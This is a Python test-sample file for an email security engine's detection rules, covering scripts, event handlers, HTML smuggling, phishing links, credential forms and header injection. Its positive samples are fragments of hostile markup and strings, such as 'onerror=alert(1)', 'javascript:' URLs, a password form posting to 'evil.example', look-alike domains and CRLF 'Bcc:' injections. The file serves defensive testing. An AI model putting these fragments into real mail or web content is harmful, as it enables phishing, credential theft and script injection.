"""Samples for the rules about HTML, links and how a mail is built; `RULES` has all samples."""

# ruff: noqa: RUF001 - look-alikes are as attacks have them

from __future__ import annotations

from nodeagent.policy.engine.content import Attachment, Content, ContentFault, Kind
from nodeagent.policy.model import Header
from tests.policy.corpus.rule_samples import (
    CODE_SAMPLES,
    Samples,
    faulty,
    headers,
    links,
    markups,
    names,
    scripts,
    subjects,
    texts,
)

F = ContentFault
MARKUP_SAMPLES: dict[str, Samples] = {
    "script-element": Samples(
        (*scripts("x()"), *markups("<SCRIPT SRC=x></SCRIPT>", "<script type='module'>x</script>")),
        markups(
            '<script type="application/ld+json">{}</script>', "&lt;script&gt;", "<p>script</p>"
        ),
    ),
    "script-page-code": Samples(
        scripts(
            "document.write('x')",
            "window.location='x'",
            "new XMLHttpRequest()",
            "i.src='https://x'",
        ),
        scripts("var a = 1;", "a.href = b"),
    ),
    "script-code": Samples(
        scripts(
            "eval(x)",
            "document['cookie']",
            "new ActiveXObject('x')",
            "alert(1)",
            "new Function('x')()",
        ),
        scripts(
            "document.write('x')",
            "window.location='x'",
            "var a = 1;",
            "function f() { return false }",
        ),
    ),
    "script-hidden-code": Samples(
        scripts(
            "eval(atob('x'))",
            "document.write(atob('x'))",
            f"document.write(unescape('{'%3C' * 50}'))",
            "String.fromCharCode(60,61,62,63,64,65,66,67,68)",
            "x='" + "\\x41" * 20 + "'",
            "eval(function(p,a,c,k){})",
            f"unescape('{'%u0041' * 9}')",
        ),
        scripts("eval(x)", "unescape('a')", "String.fromCharCode(60)"),
    ),
    "html-smuggling": Samples(
        scripts("b=atob('x');\nf=new Blob([b])", "f=new Blob([b]);\nu=URL.createObjectURL(f)"),
        (*scripts("atob('x')", "new Blob([x])"), *markups("<pre>new Blob([atob(x)])</pre>")),
    ),
    "script-address": Samples(
        links(
            ("javascript:alert(1)", "x"),
            ("JaVaScRiPt:x", "x"),
            ("java\nscript:x", "x"),
            ("&#106;avascript:x", "x"),
            ("javascript&colon;x", "x"),
            (" vbscript:x", "x"),
        ),
        links(
            ("javascript:void(0)", "x"),
            ("javascript:;", "x"),
            ("javascript:", "x"),
            ("/javascript:x", "x"),
            ("https://x/?q=javascript:x", "x"),
        ),
    ),
    "data-address": Samples(
        (
            *links(("data:text/html,x", "x"), ("data: text/html;base64,x", "x")),
            *markups(
                "<object data='data:image/svg+xml,<script>'>",
                '<meta http-equiv="refresh" content="0;url=data:text/html,x">',
            ),
        ),
        (
            *markups('<img src="data:image/png;base64,x">'),
            *links(("https://x/data:text/html", "x")),
        ),
    ),
    "event-handler": Samples(
        markups(
            "<body onload=x>", "<input onchange=x>", '<a href="x" onclick="y()">', "<svg/onload=x>"
        ),
        markups("<p>onload=x</p>", '<a href="?onload=x">', "<button>onclick</button>"),
    ),
    "event-handler-code": Samples(
        markups(
            "<img src=x onerror=alert(1)>",
            "<svg/onload=fetch(1)>",
            "<body onpageshow='eval(x)'>",
            '<details ontoggle="document.title=1">',
        ),
        markups(
            "<body onload='init()'>",
            '<body onload="document.form.focus()">',
            '<td onmouseover="this.bgColor=1; window.status=2">',
            "<a onclick='window.open(this.href); return false'>",
            "<img onerror=\"this.style.display='none'\" alt='prompt delivery, alert'>",
        ),
    ),
    "style-expression": Samples(
        markups("<p style='width: expression(x)'>", "<style>a{-moz-binding:url(x)}</style>"),
        markups("<p>an expression of joy (and more)</p>"),
    ),
    "frame": Samples(
        markups("<iframe src='https://x'></iframe>", "<frame name=a src=b>"),
        markups("<p>iframe src=</p>", "<iframe></iframe>"),
    ),
    "hidden-frame": Samples(
        markups(
            "<iframe src=x width=0>",
            '<iframe height="1" src=x>',
            "<iframe style='display: none' src=x>",
        ),
        markups(
            '<iframe src=x width="100" height="10">',
            "<p style='display:none'>x</p>",
            '<iframe src="https://www.googletagmanager.com/ns.html?id=1" height="0"></iframe>',
        ),
    ),
    "plug-in": Samples(
        markups("<object classid='x'>", "<embed src=x.swf>", "<applet code=x>"),
        markups("<p>object data=</p>", "<object>"),
    ),
    "plug-in-code": Samples(
        markups("<object classid='clsid:F935DC22-1CF0'>", "<embed src='x.hta'>"),
        markups("<object classid='clsid:6BF52A52'>", "<embed src='x.mp4'>"),
    ),
    "refresh-to-address": Samples(
        markups(
            '<meta http-equiv="refresh" content="0; url=https://x">',
            "<META content='0;URL=x' HTTP-EQUIV=refresh url=x>",
        ),
        markups('<meta http-equiv="refresh" content="300">', '<meta name="x" content="url=y">'),
    ),
    "form": Samples(markups("<form action=x>", "<FORM>"), markups("<p>form</p>", "<format>")),
    "password-form": Samples(
        markups(
            "<form action='https://evil.example/'><input name=x type='password'></form>",
            "<FORM ACTION=//evil.example><INPUT TYPE=PASSWORD></FORM>",
        ),
        markups(
            "<form action='https://login.shop.example/'><input type=password></form>",
            "<form action='https://evil.example/'><input type=text value=password></form>",
            "<form><input type=password></form>",
        ),
    ),
    "script-file": Samples(
        (
            Content(
                markups=("<script>x</script>",), attachments=(Attachment("a.html", kind=Kind.HTML),)
            ),
            Content(markups=("<script>x</script>",), attachments=(Attachment("a.svg"),)),
        ),
        (
            Content(markups=("<p>x</p>",), attachments=(Attachment("a.html"),)),
            Content(markups=("<script>x</script>",), attachments=(Attachment("a.pdf"),)),
        ),
    ),
    "link-mismatch": Samples(
        links(
            ("https://evil.example/", "www.bank.example"),
            ("https://evil.example/", "https://<b>bank</b>.example/x"),
            ("http://a.co.uk/", "b.co.uk"),
        ),
        links(
            ("https://click.bank.example/", "www.bank.example"),
            ("https://count.example/", "www.shop.example"),
            ("https://x.example/", "Read more."),
            ("https://x.example/", "setup.exe"),
            ("https://eur01.safelinks.protection.outlook.com/?url=x", "https://login.y.example"),
            ("mailto:x@y.example", "z.example"),
            ("https://x.example/", "v1.2 notes"),
        ),
    ),
    "link-mismatch-account": Samples(
        links(("https://evil.example/", "https://login.bank.example")),
        links(
            ("https://evil.example/", "www.news.example"),
            ("https://bank.example/", "login.bank.example"),
        ),
    ),
    "link-to-ip-address": Samples(
        links(
            ("http://8.8.4.4/x", "x"),
            ("http://[2a00:1450::1]/", "x"),
            ("http://u@9.9.9.9:8080/", "x"),
        ),
        links(
            ("http://192.168.1.1/", "x"),
            ("http://127.0.0.1:80/", "x"),
            ("http://[::1]/", "x"),
            ("http://10.0.0.1/", "x"),
            ("http://1.2.3.4.example/", "x"),
        ),
    ),
    "link-to-hidden-address": Samples(
        (
            *links(
                ("http://3325256711/", "x"),
                ("http://0x7f000001/", "x"),
                ("http://0300.0250.1.1/", "x"),
            ),
            *texts("see http://0xc6.0x33.0x64.0x7/a"),
        ),
        links(
            ("http://10.0.0.1/", "x"),
            ("https://12345678.example/", "x"),
            ("https://x.example/3325256711", "x"),
        ),
    ),
    "link-lookalike": Samples(
        links(
            ("https://аррӏе.example/", "x"),
            ("https://paypаl.example/", "x"),
            ("https://xn--pple-43d.com/", "x"),
        ),
        links(
            ("https://bücher.example/", "x"),
            ("https://xn--bcher-kva.example/", "x"),
            ("https://новости.example/", "x"),
            ("https://例え.example/", "x"),
            ("https://xn--99999999999.example/", "x"),
        ),
    ),
    "link-userinfo": Samples(
        (
            *links(
                ("https://www.bank.com@evil.example/", "x"), ("http://bank.de:x@evil.example", "x")
            ),
            *texts("https://bank.com%20x@evil.example/"),
        ),
        links(
            ("https://git@code.example.com/x", "x"),
            ("https://x.example/@user.com", "x"),
            ("https://x.example/?a=b.com@c", "x"),
        ),
    ),
    "link-to-program": Samples(
        (*links(("https://x.example/a.exe", "x")), *texts("https://x.example/b.msi?v=1 now")),
        links(("https://x.example/exe", "x"), ("https://x.example/a.exe.html", "x")),
    ),
    "link-to-script-file": Samples(
        links(
            ("https://x.example/a.hta", "x"),
            ("http://8.8.4.4/a.exe", "x"),
            ("file://x.example/share/a", "x"),
            ("\\\\x.example\\share", "x"),
        ),
        links(
            ("https://x.example/a.exe", "x"),
            ("https://x.example/vbs", "x"),
            ("file:///c:/notes.txt", "x"),
        ),
    ),
    "other-address-shown": Samples(
        headers(
            'From: "ceo@bank.example" <x@evil.example>', "From: ceo@bank.example <x@evil.example>"
        ),
        headers(
            "From: a@b.example",
            'From: "a@b.example" <a@b.example>',
            'From: "a@b.example via list" <list@lists.example>',
            "From: A (a at b.example) <x@y.example>",
        ),
    ),
    "header-injection": Samples(
        (*subjects("x%0d%0aBcc: a@b", "x%0A%20To%3Aa@b"), *headers("X-A: x\\r\\nSubject: y")),
        (*subjects("100%0ff", "x%0d%0ay", "a\\nb"), *texts("%0aBcc: x")),
    ),
    "hidden-header-injection": Samples(
        headers("Subject: =?utf-8?Q?a=0D=0ABcc:_b?=", "X: =?utf-8?B?YQpCY2M6IGI=?="),
        headers(
            "Subject: =?utf-8?Q?a=0D=0Ab?=", "Subject: =?utf-8?Q?Re:_b?=", "Subject: a\r\n Bcc: b"
        ),
    ),
    "doubled-header": Samples(
        (
            Content(headers=(Header("From", "a"), Header("from", "b"))),
            Content(headers=(Header("Subject", "a"), Header("Subject", "a"))),
        ),
        (
            Content(headers=(Header("Received", "a"), Header("Received", "b"))),
            Content(headers=(Header("From", "a"), Header("To", "b"))),
        ),
    ),
    "ambiguous-mime": Samples(faulty(F.DUPLICATE_HEADER), faulty(F.BAD_BOUNDARY)),
    "broken-mime": Samples(
        faulty(F.BAD_BOUNDARY, F.NUL_BYTES), faulty(F.BAD_CHARSET, F.BODY_CUT, F.TEXT_CUT)
    ),
    "too-much-structure": Samples(
        faulty(F.TOO_MANY_PARTS, F.TOO_DEEP, F.HEADERS_CUT), faulty(F.TEXT_CUT, F.NAMES_CUT)
    ),
    "office-macros": Samples(
        names("xl/vbaProject.bin", "report.DOCM"), names("report.docx", "project.bin", "docm.txt")
    ),
    "archive-with-its-password": Samples(
        tuple(
            Content(texts=(text,), attachments=(Attachment("a.zip", is_encrypted=True),))
            for text in ("Password: x1y2z3", "Das Passwort lautet geheim", "пароль: 1234")
        ),
        (
            Content(
                texts=("I tell you the password by phone",),
                attachments=(Attachment("a.zip", is_encrypted=True),),
            ),
            Content(texts=("Password: x1y2z3",), attachments=(Attachment("a.zip"),)),
        ),
    ),
}

RULES = CODE_SAMPLES | MARKUP_SAMPLES
